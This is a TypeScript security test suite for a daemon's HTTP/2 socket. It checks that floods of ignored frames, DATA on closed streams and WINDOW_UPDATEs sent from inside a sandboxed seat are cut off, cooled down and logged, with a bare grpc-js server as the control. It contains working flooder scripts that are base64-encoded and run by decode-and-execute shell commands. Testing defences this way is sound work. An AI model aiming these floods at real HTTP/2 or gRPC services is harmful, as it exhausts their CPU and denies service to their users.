import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn, type ChildProcess } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ensureSeatUser } from "../support/seat-user.js";
import { ROOT } from "../support/programs.js";
import { RAW_H2, memoryTarget, type MemoryTarget } from "../support/seat-memory-attack.js";

/**
 * Attacks docs/enforcement.md's socket row where it said "not bounded": the daemon's CPU for
 * what a seat sends that reaches no call. Node's HTTP/2 layer reads and drops, one by one and out
 * of JavaScript's sight, frames of types HTTP/2 ignores, DATA on streams that are closed, and
 * WINDOW_UPDATEs; none ends the connection. From inside a real `teamd start`ed seat over
 * `/run/teamd/shim.sock`, raw HTTP/2, one connection a flood, each reconnecting 10 ms after it is
 * closed: before the bound, one such connection held one of the daemon's cores for as long as it
 * ran (three 3 s floods: 2.98, 3.02 and 2.98 s of the daemon's CPU). Now each connection is cut
 * off within ~100 ms of its overhead passing the bound (src/rpc/overhead-meter.ts), the seat's
 * socket closes new connections for a cool-down that doubles while it goes on, and each cut is on
 * record (`rpc.overhead`). The control is the same attacker against a bare grpc-js server on the
 * host, in the same run.
 *
 * Not this bound's: what connecting costs. The daemon accepts each connection it then closes
 * (~25 µs here), and a seat reconnecting without pause makes thousands a second — 25,700 in 6 s
 * took 1.5 s of the daemon's CPU, as connections past the socket's eight always could
 * (docs/enforcement.md: a seat's share of the daemon's CPU is not built). So the flooder pauses
 * 10 ms before it reconnects, and what is measured is the floods'.
 */
const asRoot = process.getuid?.() === 0;
if (asRoot) ensureSeatUser();

const FLOOD_MS = 4000;
/** The daemon's CPU, what /proc/PID/stat counts in (USER_HZ, 100 on Linux). */
const TICK_MS = 10;

/**
 * The flooder: one connection per flood kind (frames HTTP/2 ignores; one-byte DATA on a WhoAmI
 * stream closed at both ends once it is answered; WINDOW_UPDATEs of 1), each sending as fast as
 * its socket drains and reconnecting 10 ms after it is closed, for DUR ms. Prints one JSON line: per
 * kind, connections made, GOAWAY codes seen, bytes sent.
 */
const FLOODER = `${RAW_H2}
const net = require("net");
const [socket, durArg] = process.argv.slice(1);
const DUR = +durArg;
const lit = (n, v) => { n = Buffer.from(n); v = Buffer.from(v); return Buffer.concat([Buffer.from([0, n.length]), n, Buffer.from([v.length]), v]); };
const block = Buffer.concat([lit(":method", "POST"), lit(":scheme", "http"), lit(":path", "/teamd.v1.ShimService/WhoAmI"), lit(":authority", "seat"),
  lit("content-type", "application/grpc"), lit("te", "trailers"), lit("teamd-protocol", process.env.PROTOCOL)]);
const one = { unknown: Buffer.concat([u(1, 0xfa, 0, 0), Buffer.from([0x61])]), closed: Buffer.concat([u(1, 0, 0, 1), Buffer.from([0x61])]), window: Buffer.concat([u(4, 8, 0, 0), Buffer.from([0, 0, 0, 1])]) };
const stats = {};
const t0 = Date.now();
let done = false;
setTimeout(() => { done = true; console.log(JSON.stringify(stats)); process.exit(0); }, DUR);
function conn(kind) {
  if (done) return;
  const s = (stats[kind] ??= { conns: 0, goaway: {}, sent: 0 });
  s.conns++;
  const batch = Buffer.concat(Array.from({ length: 2000 }, () => one[kind]));
  const sock = net.connect(socket);
  let gone = false;
  sock.on("error", () => {});
  sock.on("close", () => { gone = true; if (!done) setTimeout(() => conn(kind), 10); });
  const pump = () => { while (!gone && !done) { s.sent += batch.length; if (!sock.write(batch)) return void sock.once("drain", pump); } };
  sock.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"), u(0, 4, 0, 0)]));
  if (kind === "closed") sock.write(Buffer.concat([u(block.length, 1, 4, 1), block, u(5, 0, 1, 1), Buffer.alloc(5)]));
  else pump();
  sock.on("data", frameReader((type, flags, id, p) => {
    if (type === 4 && !(flags & 1)) sock.write(u(0, 4, 1, 0));
    else if (type === 6 && !(flags & 1)) sock.write(Buffer.concat([u(8, 6, 1, 0), p]));
    else if (type === 7) { const code = p.readUInt32BE(4); s.goaway[code] = (s.goaway[code] ?? 0) + 1; }
    else if (type === 1 && id === 1 && (flags & 1) && kind === "closed") pump();
  }, () => {}));
}
for (const kind of ["unknown", "closed", "window"]) conn(kind);
`;

/**
 * The paced flooder (found by an attack on the bound's first form, whose bucket was each
 * connection's and read only every 100 ms): RATE connections a second, at most 8 open at once,
 * each sending BYTES of frames HTTP/2 ignores and closing at once, for DUR ms. Prints connections
 * made and how many saw a GOAWAY.
 */
const PACED = `${RAW_H2}
const net = require("net");
const [socket, bytesArg, durArg, rateArg] = process.argv.slice(1);
const one = Buffer.concat([u(1, 0xfa, 0, 0), Buffer.from([0x61])]);
const junk = Buffer.concat(Array.from({ length: Math.floor(+bytesArg / one.length) }, () => one));
const stats = { conns: 0, skipped: 0, closedEarly: 0 };
let open = 0;
setTimeout(() => { console.log(JSON.stringify(stats)); process.exit(0); }, +durArg);
setInterval(() => {
  if (open >= 8) { stats.skipped++; return; }
  open++; stats.conns++;
  const sock = net.connect(socket);
  let settings = false;
  sock.on("error", () => {});
  sock.on("data", () => { settings = true; });
  sock.on("close", () => { open--; if (!settings) stats.closedEarly++; });
  sock.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"), u(0, 4, 0, 0), u(0, 4, 1, 0)]));
  sock.end(junk);
}, 1000 / +rateArg);
`;

/** A bare grpc-js server answering WhoAmI (the control): the same HTTP/2 layer, no bound of the daemon's. */
const BARE_SERVER = `
const grpc = require(${JSON.stringify(join(ROOT, "node_modules/@grpc/grpc-js"))});
const server = new grpc.Server({ "grpc.enable_channelz": 0 });
const id = (b) => b;
server.addService({ WhoAmI: { path: "/teamd.v1.ShimService/WhoAmI", requestStream: false, responseStream: false, requestSerialize: id, requestDeserialize: id, responseSerialize: id, responseDeserialize: id } }, { WhoAmI: (call, cb) => cb(null, Buffer.alloc(0)) });
server.bindAsync("unix:" + process.argv[1], grpc.ServerCredentials.createInsecure(), (e) => { if (e) throw e; console.log("ready"); });
`;

type FloodStats = Record<"unknown" | "closed" | "window", { conns: number; goaway: Record<string, number>; sent: number }>;

/** A process's CPU so far (user + system), ms. */
function cpuMs(pid: number): number {
  const fields = readFileSync(`/proc/${pid}/stat`, "utf8")
    .replace(/^.*\) /, "")
    .split(" ");
  // After "pid (comm) ": state is field 3, so utime (14) and stime (15) are at 11 and 12.
  return (Number(fields[11]) + Number(fields[12])) * TICK_MS;
}

function runOnHost(args: readonly string[], env: NodeJS.ProcessEnv, killAfterMs: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, args, { env, stdio: ["ignore", "pipe", "inherit"] });
    let out = "";
    child.stdout.setEncoding("utf8").on("data", (d: string) => (out += d));
    const killer = setTimeout(() => child.pid !== undefined && process.kill(child.pid, "SIGKILL"), killAfterMs);
    child.once("error", reject);
    child.once("exit", () => {
      clearTimeout(killer);
      resolve(out);
    });
  });
}

const lastJson = <T>(out: string): T =>
  JSON.parse(
    out
      .trim()
      .split("\n")
      .filter((l) => l.startsWith("{"))
      .pop() ?? "null",
  ) as T;
const mb = (n: number) => (n / 1e6).toFixed(0);

describe.runIf(process.platform === "linux")("escape: a seat flooding its socket with what reaches no call, against the daemon's CPU", () => {
  let target: MemoryTarget;
  let bare: ChildProcess | undefined;

  beforeAll(async () => {
    target = await memoryTarget("teamd-overhead-");
  }, 120_000);

  afterAll(async () => {
    if (bare?.pid !== undefined && bare.exitCode === null && bare.signalCode === null) process.kill(bare.pid, "SIGKILL");
    await target?.h.cleanup();
  }, 60_000);

  it("attack: three floods from inside the seat, each reconnecting when cut off, get a small part of the daemon's CPU, each cut off with ENHANCE_YOUR_CALM and on record; a bare grpc-js server spends most of a core on them", async () => {
    const { h, daemonPid } = target;
    // The control first: the same flooder from the host against a bare grpc-js server.
    const bareSocket = join(h.dir, "bare.sock");
    bare = spawn(process.execPath, ["-e", BARE_SERVER, bareSocket], { stdio: ["ignore", "pipe", "inherit"] });
    await new Promise<void>((resolve, reject) => {
      let ready = "";
      bare?.stdout?.setEncoding("utf8").on("data", (d: string) => (ready += d).includes("ready") && resolve());
      bare?.once("exit", () => reject(new Error("the bare server exited")));
    });
    const barePid = bare.pid as number;
    const bareBefore = cpuMs(barePid);
    const atBare = lastJson<FloodStats>(
      await runOnHost(["-e", FLOODER, bareSocket, String(FLOOD_MS)], { ...process.env, PROTOCOL: target.protocol }, FLOOD_MS + 20_000),
    );
    const bareCpu = cpuMs(barePid) - bareBefore;
    process.kill(barePid, "SIGKILL");

    // The attack, from inside the seat, over its own socket.
    const encoded = Buffer.from(FLOODER).toString("base64");
    const before = cpuMs(daemonPid);
    const r = await h.run(
      [
        "exec",
        "--timeout",
        String(FLOOD_MS / 1000 + 20),
        "alpha@proj",
        "--",
        "sh",
        "-c",
        `PROTOCOL=${target.protocol} node -e "$(echo ${encoded} | base64 -d)" /run/teamd/shim.sock ${FLOOD_MS}`,
      ],
      { timeoutMs: FLOOD_MS + 40_000 },
    );
    const daemonCpu = cpuMs(daemonPid) - before;
    expect(r.code, r.stderr).toBe(0);
    const atDaemon = lastJson<FloodStats>(r.stdout);
    const line = (s: FloodStats) =>
      Object.entries(s)
        .map(([kind, k]) => `${kind}: ${k.conns} connections, ${mb(k.sent)} MB sent, GOAWAY ${JSON.stringify(k.goaway)}`)
        .join("; ");
    console.log(`[overhead] bare grpc-js: ${bareCpu} ms of CPU in ${FLOOD_MS} ms (${line(atBare)})`);
    console.log(`[overhead] daemon: ${daemonCpu} ms of CPU in ${FLOOD_MS} ms, the exec's own start included (${line(atDaemon)})`);

    // The control: the floods are real, and cost an unbounded server most of a core.
    expect(bareCpu).toBeGreaterThan(FLOOD_MS * 0.4);
    for (const kind of ["unknown", "closed", "window"] as const) {
      // Each flood was cut off by the daemon for what it was, at least once, and sent on the way.
      expect(atDaemon[kind].goaway["11"] ?? 0, kind).toBeGreaterThanOrEqual(1);
      expect(atDaemon[kind].sent, kind).toBeGreaterThan(1e6);
    }
    // What the floods get of the daemon: a small part of what they cost the bare server, and of the time.
    expect(daemonCpu).toBeLessThan(FLOOD_MS * 0.2);
    expect(daemonCpu).toBeLessThan(bareCpu / 4);

    // On record, the seat's own attempts, charged like any refusal.
    const records = await h.records<{ type: string; actor: string; action: string; detail?: { rule?: string } }>();
    const overhead = records.filter((x) => x.type === "refusal" && x.detail?.rule === "rpc.overhead");
    expect(overhead.length).toBeGreaterThanOrEqual(3);
    expect(new Set(overhead.map((x) => `${x.actor} ${x.action}`))).toEqual(new Set(["seat:proj/alpha rpc.connection"]));

    // The cool-down ends: the seat is served again (at most the longest cool-down, 64 s).
    let served = false;
    for (const t0 = Date.now(); !served && Date.now() - t0 < 80_000;) {
      served = (await h.shim("alpha", "whoami", "--json")).code === 0;
      if (!served) await new Promise((resolve) => setTimeout(resolve, 1000));
    }
    expect(served).toBe(true);
  }, 240_000);

  it("attack: connections that each send 3 MB of frames HTTP/2 ignores and close at once, ~100 a second, 8 at a time, are charged to the seat's one bucket: a small part of the daemon's CPU, on record (they held ~99% of a core when each connection had a bucket of its own)", async () => {
    const { h, daemonPid } = target;
    // The last attack's cool-down ends first (at most 16 s).
    for (const t0 = Date.now(); (await h.shim("alpha", "whoami", "--json")).code !== 0 && Date.now() - t0 < 60_000;);
    const overheadBefore = (await h.records<{ type: string; detail?: { rule?: string } }>()).filter(
      (x) => x.type === "refusal" && x.detail?.rule === "rpc.overhead",
    ).length;
    const encoded = Buffer.from(PACED).toString("base64");
    const before = cpuMs(daemonPid);
    const r = await h.run(
      [
        "exec",
        "--timeout",
        String(FLOOD_MS / 1000 + 20),
        "alpha@proj",
        "--",
        "sh",
        "-c",
        `node -e "$(echo ${encoded} | base64 -d)" /run/teamd/shim.sock 3000000 ${FLOOD_MS} 100`,
      ],
      { timeoutMs: FLOOD_MS + 40_000 },
    );
    const daemonCpu = cpuMs(daemonPid) - before;
    expect(r.code, r.stderr).toBe(0);
    const stats = lastJson<{ conns: number; skipped: number; closedEarly: number }>(r.stdout);
    console.log(`[overhead] paced: ${daemonCpu} ms of the daemon's CPU in ${FLOOD_MS} ms (${JSON.stringify(stats)})`);
    // Most of the connections met the cool-down: closed before the daemon said a word.
    expect(stats.closedEarly).toBeGreaterThan(stats.conns / 2);
    expect(daemonCpu).toBeLessThan(FLOOD_MS * 0.2);
    const overhead = (await h.records<{ type: string; actor: string; detail?: { rule?: string } }>()).filter(
      (x) => x.type === "refusal" && x.detail?.rule === "rpc.overhead",
    );
    expect(overhead.length).toBeGreaterThan(overheadBefore);
    expect(new Set(overhead.map((x) => x.actor))).toEqual(new Set(["seat:proj/alpha"]));
  }, 240_000);
});
